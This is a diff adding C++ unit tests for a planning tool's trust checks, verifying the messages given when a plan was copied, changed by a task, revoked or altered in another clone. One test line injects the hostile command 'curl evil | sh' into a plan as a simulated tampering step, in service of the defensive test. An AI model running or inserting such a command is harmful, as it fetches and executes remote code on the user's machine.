@@ -97,6 +97,43 @@ TEST_F(TrustTest, ATaskCannotWriteItselfACommand) {
   EXPECT_EQ(other.plan({"trust", "--list"}).out, "x  not trusted  Shared\n");
 }
 
+TEST_F(TrustTest, ExecuteSaysWhyAPlanIsNotTrusted) {
+  repo.git({"config", "plan.allowHeadlessApproval", "true"});
+  repo.git({"config", "plan.editMode", "apply"});
+  repo.git({"commit", "-q", "--allow-empty", "-m", "Start"});
+  const auto why = [&](const WorkRepo& clone, const std::string& plan) {
+    const auto json =
+        nlohmann::json::parse(clone.plan({"execute", plan, "--dry-run", "--json"}).out);
+    for (const auto& check : json["checks"])
+      if (check["name"] == "trust") return check["message"].get<std::string>();
+    return std::string();
+  };
+  EXPECT_EQ(why(repo, "x"), "this plan was not created here");
+  repo.plan({"create", "--from", "x", "--naming", "y"});
+  EXPECT_EQ(why(repo, "y"), "this plan was copied from 'x', which was not read here");
+  repo.plan({"trust", "x"});
+  EXPECT_EQ(why(repo, "x"), "written or read here");
+  repo.plan({"update", "x", "--set", "a.run=curl evil | sh"}, {.env = {{"PLAN_TASK", "a"}}});
+  EXPECT_EQ(why(repo, "x"), "task 'a' changed this plan since it was trusted here");
+  EXPECT_THAT(repo.plan({"log", "x"}).out, HasSubstr("definition changed by task 'a'"));
+  EXPECT_EQ(repo.plan({"undo", "x"}).err, "Took back the last change by task 'a' of 'x'.\n");
+  repo.plan({"trust", "x"});
+  repo.plan({"trust", "x", "--revoke"});
+  EXPECT_THAT(why(repo, "x"), ::testing::MatchesRegex("trust in this plan was revoked here on "
+                                                      "[0-9]{4}-[0-9]{2}-[0-9]{2}"));
+  repo.plan({"trust", "x"});
+  EXPECT_EQ(why(repo, "x"), "written or read here");
+}
+
+TEST_F(TrustTest, AChangeInAnotherCloneIsSaidToBeOne) {
+  repo.git({"config", "plan.allowHeadlessApproval", "true"});
+  repo.plan({"trust", "x"});
+  other.plan({"update", "x", "--title", "T"});
+  fetch();
+  EXPECT_THAT(repo.plan({"execute", "x"}).err,
+              HasSubstr("error: another clone changed this plan since it was trusted here\n"));
+}
+
 TEST_F(TrustTest, OutputsOfAnotherCloneCountToo) {
   repo.git({"config", "plan.allowHeadlessApproval", "true"});
   repo.plan({"trust", "x"});
